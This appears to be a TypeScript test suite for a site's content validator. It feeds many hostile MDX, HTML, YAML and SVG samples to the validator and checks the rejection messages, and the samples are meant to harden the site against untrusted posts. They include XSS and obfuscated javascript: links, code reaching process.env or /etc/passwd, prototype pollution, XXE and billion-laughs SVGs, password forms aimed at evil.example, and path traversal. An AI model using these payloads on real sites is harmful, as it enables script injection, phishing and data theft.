import { chmodSync, readFileSync, symlinkSync } from 'node:fs'
import { gzipSync } from 'node:zlib'
import sharp from 'sharp'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { byPlace, type Problem } from '@/lib/content/problem'
import { gifOf, pngClaiming } from '@/lib/pictures/test-hostile'
import { enterTestProject, type TestProject, testRegistry, writing } from './test-project'

/** Everything told of what somebody hostile may write: `line:column reason`, by what they write. Words begin in line 8. */
type Hostile = [what: string, written: string, ...told: string[]]

/** Words of MDX that are refused whoever has written them. */
const words: Hostile[] = [
  ['an import', "import { readFileSync } from 'node:fs'", '8:1 a post cannot import or export'],
  ['an export', 'Words.\n\nexport const secret = process.env.SECRET', '10:1 a post cannot import or export'],
  ['the network', "Words {await fetch('https://evil.example')}", '8:14 an expression cannot use `fetch`'],
  ['the file system', "{(await import('node:fs')).readFileSync('/etc/passwd', 'utf8')}", '8:9 an expression cannot use `import()`'],
  ['the environment', '- {process.env.HOME}', '8:4 an expression cannot use `process`'],
  [
    'the environment, by a scope that looks like another',
    '{((a = process) => { var process; return a.env.HOME })()}',
    '8:8 an expression cannot use `process`',
    '8:26 an expression cannot use `process`',
  ],
  ['the global object', "{globalThis['process']}", '8:2 an expression cannot use `globalThis`'],
  [
    'a function of text',
    "{[].constructor.constructor('return process')()}",
    '8:5 an expression cannot use `.constructor`',
    '8:17 an expression cannot use `.constructor`',
  ],
  [
    'the same, put together',
    "{[]['con' + 'structor']['con' + 'structor']('return 1')()}",
    '8:5 an expression cannot use a property whose name only running it would tell',
    '8:25 an expression cannot use a property whose name only running it would tell',
  ],
  ['eval', "{(0, eval)('process.exit()')}", '8:6 an expression cannot use `eval`'],
  ['code that changes what all share', '{(Math.max = () => 1)()}', '8:3 an expression cannot change a part of something'],
  ['what never ends', '{await new Promise(() => {})}', '8:2 an expression fails: it takes longer than a second'],
  [
    'an expression in an attribute',
    '<Figure src="a.png" alt={await fetch(\'https://evil.example\')} />',
    '8:9 the picture a.png does not exist',
    '8:21 <Figure> has no prop `alt`',
    '8:32 an expression cannot use `fetch`',
  ],
  [
    'an element put together',
    "{({ $$typeof: Object.values(<b />)[0], type: 'script', props: {} })}",
    '8:5 an expression cannot use `$$typeof`',
  ],
  [
    'a tag that an expression names',
    '{((Tag) => <Tag src="https://evil.example/a.js" />)(\'script\')}',
    '8:13 <Tag> is what an expression says it is, which only running it would tell',
  ],
  ['a script', 'Words <script src="https://evil.example/a.js" />', '8:8 a post cannot hold scripts'],
  ['a script in capitals', '<SCRIPT>alert(1)</SCRIPT>', '8:2 there is no component <SCRIPT>'],
  ['a script within a drawing', '<svg viewBox="0 0 1 1"><script>alert(1)</script></svg>', '8:25 a post cannot hold scripts'],
  ['a handler', '<b onClick="alert(1)">so</b>', '8:4 `onClick` does nothing on a page'],
  ['a handler in other letters', '<b oNmOuSeOvEr="alert(1)">so</b>', '8:4 `oNmOuSeOvEr` does nothing on a page'],
  ['a handler that is spread', "<b {...{ onClick: 'alert(1)' }}>so</b>", '8:10 `onClick` does nothing on a page'],
  [
    'a handler whose name is put together',
    "<b {...{ ['on' + 'Click']: 'alert(1)' }}>so</b>",
    '8:2 attributes of <b> are worked out by an expression, so that they are not looked at',
  ],
  [
    'HTML as text',
    "<b dangerouslySetInnerHTML={{ __html: '<script>alert(1)</script>' }} />",
    '8:4 `dangerouslySetInnerHTML` is not for posts',
  ],
  ['a style', '<b style="background:url(https://evil.example)">so</b>', '8:4 a post cannot style single elements'],
  ['a style as an object', "<b style={{ position: 'fixed' }}>so</b>", '8:4 a post cannot style single elements'],
  ['a style sheet', '<style>p</style>', '8:2 a post cannot hold style sheets'],
  [
    'a class that loads',
    '<b className="bg-[url(https://evil.example/a)]">so</b>',
    '8:17 a class with an address in it would load something wherever it stands, even as a mere word',
  ],
  [
    'a word that becomes a class that loads',
    'Words bg-[url(../.env)] words.',
    '8:9 a class with an address in it would load something wherever it stands, even as a mere word',
  ],
  ['a link that runs', '[so](javascript:alert(1))', '8:6 an address cannot hold a script'],
  [
    'a link that runs, in other letters',
    '[so](<JaVa\\script:x>) [so](&#106;avascript&colon;alert(1))',
    '8:1 the file JaVa\\script:x does not exist',
    '8:23 an address cannot hold a script',
  ],
  ['a link that runs, by a reference', '[so][a]\n\n[a]: vbscript:msgbox(1)', '10:6 an address cannot hold a script'],
  ['a picture that runs', '![so](javascript:alert(1))', '8:7 an address cannot hold a script'],
  [
    'a tag that runs',
    '<a href="java&#9;script:alert(1)">so</a>',
    '8:4 the file java\tscript:alert(1) does not exist',
    '8:9 an address cannot hold a script',
  ],
  ['a tag that runs, in capitals', '<a HREF="javascript:alert(1)">so</a>', '8:9 an address cannot hold a script'],
  ['a link of data', '[so](data:text/html,<script>alert(1)</script>)', '8:1 a link cannot hold data'],
  ['a tag with a link of data, in capitals', '<a HREF="data:text/html,x">so</a>', '8:9 an address cannot hold data'],
  [
    'a link that is worked out',
    "<a href={'javascript' + ':alert(1)'}>so</a>",
    '8:4 `href` is worked out by an expression, so that where it leads is not looked at',
  ],
  ['a button that runs', '<button formAction="javascript:alert(1)">so</button>', '8:20 an address cannot hold a script'],
  ['sizes that run', '<img alt="so" srcSet="/a.png 1x, javascript:alert(1) 2x" />', '8:22 an address cannot hold a script'],
  [
    'a form to elsewhere',
    '<form action="https://evil.example"><input name="password" /></form>',
    '8:14 a form would send what readers write to another site',
  ],
  [
    'a form to elsewhere, without its scheme',
    '<form action="/\\evil.example" />',
    '8:14 a form would send what readers write to another site',
  ],
  ['a frame', '<iframe src="https://evil.example" />', '8:2 a page of this site holds no frames from elsewhere'],
  [
    'a frame of text',
    '<iframe srcDoc="<script>alert(1)</script>" title="so" />',
    '8:2 a page of this site holds no frames from elsewhere',
    '8:9 a page of this site holds no frames from elsewhere',
  ],
  ['an object', '<object data="https://evil.example/a.swf" />', '8:2 a page of this site holds no frames from elsewhere'],
  ['an embed', '<embed src="https://evil.example/a.pdf" />', '8:2 a page of this site holds no frames from elsewhere'],
  ['a new base', '<base href="https://evil.example/" />', '8:2 this belongs to the page around a post, and not into it'],
  [
    'a way on',
    '<meta httpEquiv="refresh" content="0;url=https://evil.example" />',
    '8:2 this belongs to the page around a post, and not into it',
  ],
  [
    'a sheet from elsewhere',
    '<link rel="stylesheet" href="https://evil.example/a.css" />',
    '8:2 this belongs to the page around a post, and not into it',
  ],
  ['what tells of each click', '<a href="/" ping="https://evil.example">so</a>', '8:13 `ping` tells another server of every click'],
  [
    'a drawing of parts from elsewhere',
    '<svg viewBox="0 0 1 1"><use href="https://evil.example/a.svg#b" /></svg>',
    '8:34 the drawing would get a part of it from another site',
  ],
  [
    'the same by the old name',
    '<svg viewBox="0 0 1 1"><use xlinkHref="https://evil.example/a.svg#b" /></svg>',
    '8:39 the drawing would get a part of it from another site',
  ],
  [
    'a colour from elsewhere',
    '<svg viewBox="0 0 1 1"><path fill="url(https://evil.example/a.svg#b)" /></svg>',
    '8:35 the drawing would load something from elsewhere',
  ],
  [
    'an address that moves',
    '<svg viewBox="0 0 1 1"><a><set attributeName="href" to="javascript:alert(1)" /></a></svg>',
    '8:46 an animation cannot change addresses or handlers',
    '8:56 an address cannot hold a script',
  ],
  ['formulas that lead', '$$\n\\href{javascript:alert(1)}{x}\n$$', '9:1 `\\href` is no command of TeX that is known here'],
  ['a formula that loads', 'So $$\\includegraphics{https://evil.example/a.png}$$', '8:6 `\\includegraphics` is not allowed in a formula'],
  [
    'a diagram that runs',
    '```mermaid title="A way"\nflowchart LR\n  a --> b\n  click a "javascript:alert(1)"\n```',
    '11:9 `a "javascript:alert(1)"` is not drawn',
  ],
  ['text that turns its direction', 'Words \u202Ewords', '8:7 an invisible character stands here: U+202E RIGHT-TO-LEFT OVERRIDE'],
  ['bytes that steer a terminal', 'Words \u001B[2Jwords', '8:7 an invisible character stands here: U+001B ESCAPE'],
]

/** HTML in Markdown, which is refused whoever has written it. */
const html: Hostile[] = [
  ['a script', 'Words.\n\n<script>alert(1)</script>', '10:2 a post cannot hold scripts'],
  [
    'a script in capitals, in a line',
    'Words <ScRiPt src="//evil.example">so</sCrIpT>',
    '8:8 components such as <ScRiPt> are not for Markdown files',
    '8:38 `</sCrIpT>` closes nothing',
  ],
  [
    'a handler',
    '<img src="/a.png" alt="" onerror=alert(1)>',
    '8:1 there is no /a.png on this site',
    '8:26 `onerror` does nothing on a page',
  ],
  ['a style', '<p style="position:fixed">so</p>', '8:4 a post cannot style single elements'],
  ['a link that runs', '<a href=" &#x6A;avascript:alert(1)">so</a>', '8:9 an address cannot hold a script'],
  ['a link of data', '<a href="data:text/html,x">so</a>', '8:9 `href` cannot begin with data:'],
  ['an autolink that runs', 'So <javascript:alert(1)>', '8:5 an address cannot hold a script'],
  ['a frame of text', '<iframe srcdoc="<script>alert(1)</script>"></iframe>', '8:2 a page of this site holds no frames from elsewhere'],
  ['a way on', '<meta http-equiv="refresh" content="0;url=//evil.example">', '8:2 this belongs to the page around a post, and not into it'],
  [
    'a form',
    '<form action="https://evil.example"><input name="password"></form>',
    '8:2 <form> is not for Markdown files',
    '8:38 <input> is not for Markdown files',
  ],
  ['a drawing that runs', '<svg onload="alert(1)"></svg>', '8:2 <svg> is not for Markdown files'],
  ['a declaration', '<!DOCTYPE html [<!ENTITY a "b">]>', '8:1 a page holds no instructions or declarations'],
]

/** Front matter, line 6 of it, that is refused whoever has written it. */
const fields: Hostile[] = [
  ['the prototype of all objects', '__proto__: { isAdmin: true }', '6:1 `__proto__` is not a field of the front matter'],
  ['that of one of its fields', 'cover: { src: a.png, alt: b, __proto__: { caption: c } }', '6:30 `__proto__` is not a field of `cover`'],
  ['the constructor', 'constructor: { prototype: { isAdmin: true } }', '6:1 `constructor` is not a field of the front matter'],
  [
    'an anchor and what refers to it',
    'tags: &a [x, x]\nseries: *a',
    '6:7 text cannot begin with &, which YAML keeps for itself',
    '7:9 text cannot begin with *, which YAML keeps for itself',
  ],
  [
    'lists of lists of lists',
    'tags: [&a [x,x,x,x,x,x,x,x,x], &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]]',
    '6:8 text cannot begin with &, which YAML keeps for itself',
  ],
  ['lists without end', `tags: ${'['.repeat(10_000)}${']'.repeat(10_000)}`, '6:791 lists or fields stand too deeply in each other'],
  ['code', 'tags: !!js/function "function () {}"', '6:8 text cannot begin with !, which YAML keeps for itself'],
  ['an address of the site', 'aliases: [/feed.xml]', '6:11 the site has the address /feed.xml itself'],
  [
    'an address of a folder above',
    'aliases: [/../etc/passwd]',
    '6:11 item 1 of `aliases` is "/../etc/passwd"; expected an address of this site, such as /2019/old-name: it begins with a slash, ends without one, and holds no ? or #',
  ],
  [
    'a conversation that runs',
    'discuss: ["javascript:alert(1)"]',
    '6:11 item 1 of `discuss` is "javascript:alert(1)"; expected a whole address, such as https://example.org/talk',
  ],
  [
    'a picture from elsewhere',
    'cover: { src: "https://evil.example/a.png", alt: a }',
    '6:15 `cover.src` is "https://evil.example/a.png"; expected the path of a picture from this file, such as desk.jpg',
  ],
  [
    'a picture out of the folder',
    'cover: { src: "../../../../../../etc/hostname", alt: a }',
    '6:15 the file ../../../../../../etc/hostname lies outside the folder of the content',
  ],
]

/** Words of MDX that only the owner may write. */
const untrusted: Hostile[] = [
  [
    'what has to be run',
    'A year has {365 * 24} hours.',
    '8:13 what an untrusted post says is not run, and only running this would tell what it gives',
  ],
  [
    'what has to be run, in an attribute',
    "<b title={['a'].join()}>so</b>",
    '8:11 what an untrusted post says is not run, and only running this would tell what it gives',
  ],
  [
    'a function',
    '<Figure src="/robots.txt" alt={() => 1} />',
    '8:27 <Figure> has no prop `alt`',
    '8:32 what an untrusted post says is not run, and only running this would tell what it gives',
  ],
  [
    'a picture from elsewhere',
    '![A desk](https://evil.example/a.png)',
    '8:1 an untrusted post cannot show what another server sends, which would learn of each reader: https://evil.example/a.png',
  ],
  [
    'a picture from elsewhere, by a reference',
    '![A desk][a]\n\n[a]: //evil.example/a.png',
    '10:1 an untrusted post cannot show what another server sends, which would learn of each reader: //evil.example/a.png',
  ],
  [
    'a tag with a picture from elsewhere',
    '<img alt="" src="https://evil.example/a.png" />',
    '8:17 an untrusted post cannot show what another server sends, which would learn of each reader: https://evil.example/a.png',
  ],
  [
    'sizes of a picture from elsewhere',
    '<img alt="" src="/robots.txt" srcSet="https://evil.example/a.png 2x" />',
    '8:38 an untrusted post cannot say of which sizes a picture is',
  ],
  [
    'a field for a password',
    '<label>Your password <input name="password" /></label>',
    '8:23 an untrusted post cannot hold <input>: readers would take what it asks for what the site asks',
  ],
  [
    'a layer over the page',
    '<a href="/robots.txt" className="fixed inset-0">so</a>',
    '8:33 the class `fixed` could lay something over the page, hide it, or claim something for the site',
  ],
  [
    'a class that is worked out',
    "<b className={['fixed'].join()}>so</b>",
    '8:4 classes are worked out by an expression, so that they are not looked at',
    '8:15 what an untrusted post says is not run, and only running this would tell what it gives',
  ],
  ['who its owner is', '<a href="https://evil.example" rel="me">so</a>', '8:36 an untrusted post cannot say `me` of a link'],
]

const svg = (inner: string, before = '') =>
  `${before}<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9">${inner}<path d="M0 0h9v9z"/></svg>`
const uses = Array.from({ length: 12 }, (_, i) => `<g id="a${i + 1}">${`<use href="#a${i}"/>`.repeat(10)}</g>`).join('')
const small = () => sharp({ create: { width: 2, height: 2, channels: 3, background: '#f00' } })

/** Pictures that are refused whoever has written the words that name them; and what is told of them. */
const pictures: [name: string, bytes: () => Promise<Buffer> | Buffer | string, flaw: string][] = [
  ['huge.png', () => pngClaiming(60_000, 60_000), 'is 60000 × 60000 pixels large'],
  ['wide.png', () => pngClaiming(2_000_000_000, 1), 'is damaged or incomplete'],
  ['large.png', () => pngClaiming(16_000, 16_000, Buffer.alloc(1_000_000)), 'is 16000 × 16000 pixels large'],
  ['cut.jpg', async () => (await small().resize(200).jpeg().toBuffer()).subarray(0, -100), 'is damaged or incomplete'],
  ['endless.gif', () => gifOf(20_000), 'is 1 × 1 pixels large and has 20000 frames'],
  ['page.png', () => '<!doctype html><script>alert(1)</script>', 'holds no picture'],
  ['packed.svgz', () => gzipSync(svg('')), 'holds no picture'],
  ['packed.svg', () => gzipSync(svg('')), 'is no SVG drawing that can be shown: The encoded data was not valid for encoding utf-8'],
  [
    'wide-text.svg',
    () => Buffer.from(`\ufeff${svg('<script/>')}`, 'utf16le'),
    'is no SVG drawing that can be shown: The encoded data was not valid for encoding utf-8',
  ],
  [
    'laughs.svg',
    () =>
      svg(
        '<text>&c;</text>',
        '<!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&d;"><!ENTITY d "&c;">]>',
      ),
    'is no SVG drawing that can be shown: Parsed entity depth exceeds max entity depth',
  ],
  [
    'long-laugh.svg',
    () => svg(`<text>${'&a;'.repeat(500)}</text>`, `<!DOCTYPE svg [<!ENTITY a "${'ha'.repeat(50_000)}">]>`),
    'is no SVG drawing that can be shown: it declares entities of 100002 characters',
  ],
  [
    'file.svg',
    () => svg('<text>&a;</text>', '<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>'),
    'is no SVG drawing that can be shown: Invalid character entity',
  ],
  ['again.svg', () => svg(uses), 'is no SVG drawing that can be shown: its parts show each other too many times'],
]

/** Files that nobody but the owner may put into the folder. */
const files: [name: string, bytes: () => Promise<Buffer> | Buffer | string, reason: string][] = [
  ['posts/run.svg', () => svg('<script>alert(1)</script>'), 'the drawing could run or load something: <script>'],
  ['posts/handler.svg', () => svg('<g onload="alert(1)"/>'), 'the drawing could run or load something: onload'],
  [
    'posts/foreign.svg',
    () => svg('<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml"/></foreignObject>'),
    'the drawing could run or load something: <foreignObject>',
  ],
  [
    'posts/import.svg',
    () => svg('<style>@import "https://evil.example/a.css";</style>'),
    'the drawing could run or load something: @import',
  ],
  [
    'posts/moves.svg',
    () => svg('<a><animate attributeName="href" to="javascript:alert(1)"/></a>'),
    'the drawing could run or load something: <animate>',
  ],
  ['posts/misnamed.jpg', () => small().png().toBuffer(), 'its name ends in .jpg, and it is of the format png'],
  ['posts/drawing.png', () => svg(''), 'its name ends in .png, and it is of the format svg'],
  [
    'posts/both.png',
    async () => Buffer.concat([await small().png().toBuffer(), Buffer.from('<script>alert(1)</script>')]),
    'there is a web page or a program within the picture',
  ],
  ['posts/demo.html', () => '<script>alert(1)</script>', 'it is neither writing nor a file that may stand beside it'],
  ['posts/run.js', () => 'alert(1)', 'it is neither writing nor a file that may stand beside it'],
  ['posts/code.ts', () => 'process.exit()', 'it is neither writing nor a file that may stand beside it'],
  ['posts/.env', () => 'SECRET=1', 'it is hidden'],
  ['posts/.hidden/a.png', () => 'a', 'it is hidden'],
  ['posts/paper.pdf', () => '<script>alert(1)</script>', 'it is not what its name says: .pdf'],
  ['posts/film.mp4', () => '<script>alert(1)</script>', 'it is not what its name says: .mp4'],
  ['posts/bytes.txt', () => Buffer.from([0, 255, 1]), 'it is not what its name says: .txt'],
  ['posts/large.pdf', () => Buffer.concat([Buffer.from('%PDF-'), Buffer.alloc(31e6)]), 'it has 31.0 MB; the most is 30 MB'],
  ['posts/new\nline.txt', () => 'a', 'its name holds a character that not every machine can have there'],
  ['settings.ts', () => 'process.exit()', 'it is neither writing nor a file that may stand beside it'],
  ['other/a.png', () => small().png().toBuffer(), 'it is neither writing nor a file that may stand beside it'],
]

/** What is right, and is not refused even when somebody else has written it. */
const honest: [name: string, content: () => Promise<Buffer> | Buffer | string][] = [
  [
    'posts/honest.mdx',
    () =>
      writing(
        `# A heading

Words, *emphasis*, [a link](https://example.org/), [the heading](#a-heading), \`process.env\` and \`bg-\`, {/* a comment */}1 < 2, {'a value'}, {-3}.[^1]

<Figure src="honest.png" />

![A square](honest.png "A caption") ![A drawing](honest.svg) and [a paper](honest.pdf).

<div class="mt-4 rounded-xl border-2 border-muted">
Words in a box, with a <a href="/robots.txt" rel="noopener" target="_blank">window</a>.
</div>

{['a', <b key="b">c</b>]}

<details open><summary>More</summary>Words.</details>

$$
\\frac{1}{2}
$$

\`\`\`js
fetch('javascript:alert(1)')
\`\`\`

[^1]: A note.
`,
        'date: 2025-03-01\npublished: true\ntags: [import, constructor, __proto__]\naliases: [/2019/old]\ncover: { src: honest.png, alt: A square }',
      ),
  ],
  [
    'posts/plain.md',
    () => writing('Words <kbd class="key">K</kbd>, {braces}, 1 < 2, <img src="honest.png" alt="A square"> and &lt;script&gt;.\n'),
  ],
  ['posts/honest.png', () => small().png().toBuffer()],
  ['posts/honest.jpeg', () => small().jpeg().toBuffer()],
  ['posts/honest.webp', () => small().webp().toBuffer()],
  ['posts/moves.gif', () => gifOf(3)],
  ['posts/honest.svg', () => svg('<defs><linearGradient id="g"/></defs><use href="#g"/><rect fill="url(#g)"/>')],
  ['posts/honest.pdf', () => '%PDF-1.7'],
  ['posts/honest.txt', () => 'Wörter'],
  ['addresses.txt', () => '# none\n'],
  ['words.txt', () => 'frobnicate\n'],
]

const refused = (name: string, what: string, written: Hostile[], ending: string) =>
  written.map(([title, text, ...told], i) => ({ title: `${what}: ${title}`, file: `content/posts/${name}-${i}${ending}`, text, told }))

const posts = [
  ...refused('words', 'words', words, '.mdx'),
  ...refused('html', 'HTML', html, '.md'),
  ...refused('fields', 'front matter', fields, '.mdx'),
]
const others = refused('untrusted', 'untrusted words', untrusted, '.mdx')

const pictured = pictures.map(([name, bytes, flaw]) => ({ name, bytes, flaw, post: `content/posts/shows-${name.replace('.', '-')}.mdx` }))

let project: TestProject
let trusted: Problem[]
let ofOthers: Problem[]

beforeAll(async () => {
  project = enterTestProject()
  project.write('public/robots.txt', '')
  for (const { file, text } of [...posts, ...others])
    project.write(
      file,
      file.includes('/fields-') ? writing('Words.\n', `date: 2025-03-01\npublished: true\n${text}`) : writing(`${text}\n`),
    )
  for (const [name, bytes] of [...files, ...honest]) project.write(`content/${name}`, await bytes())
  for (const { name, bytes, post } of pictured) {
    project.write(`content/posts/${name}`, await bytes())
    project.write(post, writing(`![Something](${name})\n`))
  }
  project.write('content/posts/program.txt', '#!/bin/sh')
  chmodSync('content/posts/program.txt', 0o755)
  project.write('secret/index.mdx', writing('Secret.\n'))
  project.write('secret/a.png', await small().png().toBuffer())
  symlinkSync('../../secret/index.mdx', 'content/posts/link.mdx')
  symlinkSync('../../secret', 'content/posts/link-to-folder')
  symlinkSync('../../secret/a.png', 'content/posts/link.png')
  project.write('content/posts/shows-link.mdx', writing('![Something](link.png)\n'))
  trusted = await problems(false)
  ofOthers = await problems(true)
}, 240_000)
afterAll(() => project.leave())

/** Every error there is, as `npm run check` tells it. */
async function problems(isUntrusted: boolean): Promise<Problem[]> {
  const { readContent } = await import('@/lib/content')
  const [{ problemsOf }, { surveyOf }, { untrustedContent }] = await Promise.all([
    import('./index'),
    import('./survey-of'),
    import('./untrusted'),
  ])
  const content = readContent()
  const found: Problem[] = [...content.problems]
  for (const entry of [...content.posts, ...content.unlisted, ...content.pages])
    found.push(...(await problemsOf(entry, content, (other) => surveyOf({ ...other, untrusted: isUntrusted }, testRegistry))))
  if (isUntrusted) found.push(...(await untrustedContent().problems()))
  return found.filter(({ severity }) => severity === 'error').sort(byPlace)
}

const toldOf = (all: Problem[], file: string) =>
  all.filter((problem) => problem.file === file).map(({ line, column, reason }) => `${line}:${column} ${reason}`)

describe('refused, whoever has written it:', () => {
  test.each(posts)('$title', ({ file, told }) => {
    expect(toldOf(trusted, file)).toEqual(told)
    expect(toldOf(ofOthers, file)).not.toEqual([])
  })

  test.each(pictured)('the picture $name', ({ name, flaw, post }) => {
    const called = `the picture ${name}`
    expect(toldOf(trusted, post)).toEqual([`8:1 ${called} ${flaw}`])
    expect(toldOf(ofOthers, `content/posts/${name}`)).toEqual([
      name.endsWith('.svgz') ? '1:1 it is neither writing nor a file that may stand beside it' : `1:1 the picture ${flaw}`,
    ])
  })

  test('links that lead out of the folder', () => {
    expect(toldOf(trusted, 'content/posts/link.mdx')).toEqual(['1:1 the link leads out of the content folder, to ../secret/index.mdx'])
    expect(toldOf(trusted, 'content/posts/link-to-folder/index.mdx')).toEqual([
      '1:1 the link leads out of the content folder, to ../secret/index.mdx',
    ])
    expect(toldOf(trusted, 'content/posts/shows-link.mdx')).toEqual(['8:1 the picture link.png lies outside the folder of the content'])
  })
})

describe('refused, unless its owner has written it:', () => {
  test.each(others)('$title', ({ file, told }) => {
    expect(toldOf(ofOthers, file)).toEqual(told)
  })

  test.each(files)('the file %j', (name, _, reason) => {
    expect(toldOf(ofOthers, `content/${name.replace(/(\/\.hidden)\/.*/, '$1')}`)).toEqual([`1:1 ${reason}`])
  })

  test('links to other files, and programs', () => {
    for (const name of ['link.png', 'link-to-folder'])
      expect(toldOf(ofOthers, `content/posts/${name}`)).toEqual(['1:1 it is a link to another file'])
    expect(toldOf(ofOthers, 'content/posts/program.txt')).toEqual(['1:1 it is a program: it may be run'])
  })
})

describe('not refused:', () => {
  test.each(honest)('%s', (name) => {
    expect([...toldOf(trusted, `content/${name}`), ...toldOf(ofOthers, `content/${name}`)]).toEqual([])
  })
})

test('all of them are told with what to do', () => {
  for (const { file, fix } of [...trusted, ...ofOthers]) expect(fix, file).toMatch(/^[A-Z`]\S* /)
})

test('what its owner has accepted before is trusted, and nothing else', async () => {
  const { untrustedContent } = await import('./untrusted')
  const [same, other] = ['content/posts/untrusted-0.mdx', 'content/posts/untrusted-1.mdx']
  project.write('accepted/posts/untrusted-0.mdx', readFileSync(same))
  project.write('accepted/posts/untrusted-1.mdx', writing('Other words.\n'))
  const { accepts } = untrustedContent('accepted')
  expect([same, other, 'content/posts/untrusted-2.mdx'].map(accepts)).toEqual([true, false, false])
  expect(untrustedContent('content').accepts(same)).toBe(false)
})
